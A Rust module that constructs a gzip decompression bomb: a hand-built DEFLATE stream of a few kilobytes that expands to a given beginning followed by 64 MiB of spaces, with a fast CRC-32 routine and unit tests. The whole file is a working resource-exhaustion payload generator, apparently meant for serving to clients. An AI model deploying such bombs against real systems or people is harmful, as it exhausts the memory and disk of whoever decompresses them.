//! A decompression bomb: a few kilobytes of gzip that become 64 MiB, the answer followed by white space.

/// The length of the white space behind the answer: two to the power of this.
const DOUBLINGS: u32 = 26;

/// The longest match of DEFLATE.
const MATCH: u32 = 258;

/// Builds the bomb from its first bytes. Returns nothing when they do not fit into one stored block.
pub(super) fn gzip(beginning: &[u8]) -> Option<Vec<u8>> {
    let length = u16::try_from(beginning.len()).ok()?;
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    // A stored block, and not the last one.
    bytes.push(0);
    bytes.extend(length.to_le_bytes());
    bytes.extend((!length).to_le_bytes());
    bytes.extend_from_slice(beginning);
    white_space(&mut bytes);
    let spaces = 1_u32 << DOUBLINGS;
    bytes.extend(checksum(beginning).to_le_bytes());
    bytes.extend(u32::from(length).wrapping_add(spaces).to_le_bytes());
    Some(bytes)
}

/// The last block. Its own code writes a match of 258 spaces as two zero bits, so 1032 spaces are one zero byte.
fn white_space(bytes: &mut Vec<u8>) {
    let mut bits = Bits { bytes, pending: 0, count: 0 };
    // The last block, with codes of its own: 286 literals and lengths, 1 distance, 18 code lengths.
    for (value, width) in [(1, 1), (2, 2), (29, 5), (0, 5), (14, 4)] {
        bits.push(value, width);
    }
    // The lengths of the codes for 16, 17, 18, 0, …, 2, 14, 1, in the order of RFC 1951, 3.2.7.
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] {
        bits.push(length, 3);
    }
    // `0` repeats zeros (11 and as many as the next seven bits say), `10` is length 1 and `11` is length 2.
    let zeros = |count: u32| [(0, 1), (count - 11, 7)];
    let (one, two) = ((0b01, 2), (0b11, 2));
    let literals = zeros(32).into_iter().chain([two]).chain(zeros(138)).chain(zeros(85)).chain([two]);
    // The length of 258 and the distance of 1 are one bit each.
    for (value, width) in literals.chain(zeros(28)).chain([one, one]) {
        bits.push(value, width);
    }
    let rest = (1_u32 << DOUBLINGS) - 1;
    for _ in 0..=rest % MATCH {
        bits.push(0b01, 2);
    }
    for _ in 0..rest / MATCH {
        bits.push(0, 2);
    }
    bits.push(0b11, 2);
    bits.end();
}

/// Writes bits into bytes, the lowest first.
struct Bits<'b> {
    bytes: &'b mut Vec<u8>,
    pending: u32,
    count: u32,
}

impl Bits<'_> {
    fn push(&mut self, value: u32, width: u32) {
        self.pending |= value << self.count;
        self.count += width;
        while self.count >= 8 {
            let [byte, ..] = self.pending.to_le_bytes();
            self.bytes.push(byte);
            self.pending >>= 8;
            self.count -= 8;
        }
    }

    fn end(&mut self) {
        if self.count > 0 {
            self.push(0, 8 - self.count);
        }
    }
}

/// CRC-32 of the beginning and the white space behind it.
fn checksum(beginning: &[u8]) -> u32 {
    let start = beginning.iter().fold(u32::MAX, |register, byte| step(register, *byte));
    let spaces = (0..DOUBLINGS).fold(Run::of(b' '), |run, _| run.twice());
    !spaces.apply(start)
}

fn step(register: u32, byte: u8) -> u32 {
    (0..8).fold(register ^ u32::from(byte), |register, _| {
        (register >> 1) ^ if register & 1 == 1 { 0xedb8_8320 } else { 0 }
    })
}

/// The effect of a run of bytes on the register. It is linear but for a constant, so its values for nothing and for
/// each bit determine it. A run twice as long then takes 33 steps, not 64 million.
struct Run {
    nothing: u32,
    bits: [u32; 32],
}

impl Run {
    fn of(byte: u8) -> Self {
        let mut bit = 1_u32;
        let bits = [0; 32].map(|_: u32| {
            let after = step(bit, byte);
            bit = bit.rotate_left(1);
            after
        });
        Self { nothing: step(0, byte), bits }
    }

    fn apply(&self, register: u32) -> u32 {
        let set = self.bits.iter().enumerate().filter(|(place, _)| register >> place & 1 == 1);
        set.fold(self.nothing, |sum, (_, bit)| sum ^ bit ^ self.nothing)
    }

    fn twice(&self) -> Self {
        Self { nothing: self.apply(self.nothing), bits: self.bits.map(|bit| self.apply(bit)) }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "a test may stop at the first surprise")]

    use super::*;

    #[test]
    fn a_run_does_what_its_bytes_do_one_after_the_other() {
        let slowly = (0..1024).fold(0x1234_5678, |register, _| step(register, b' '));
        let quickly = (0..10).fold(Run::of(b' '), |run, _| run.twice()).apply(0x1234_5678);
        assert_eq!(quickly, slowly);
        assert_eq!(!b"123456789".iter().fold(u32::MAX, |register, byte| step(register, *byte)), 0xcbf4_3926);
    }

    #[test]
    fn a_thousand_bytes_come_out_of_one() {
        let bomb = gzip(b"{}").unwrap();
        assert!(bomb.len() < 70_000, "{}", bomb.len());
        assert!(bomb.ends_with(&(64 * 1024 * 1024_u32 + 2).to_le_bytes()));
        assert!(gzip(&[b' '; 70_000]).is_none());
    }
}
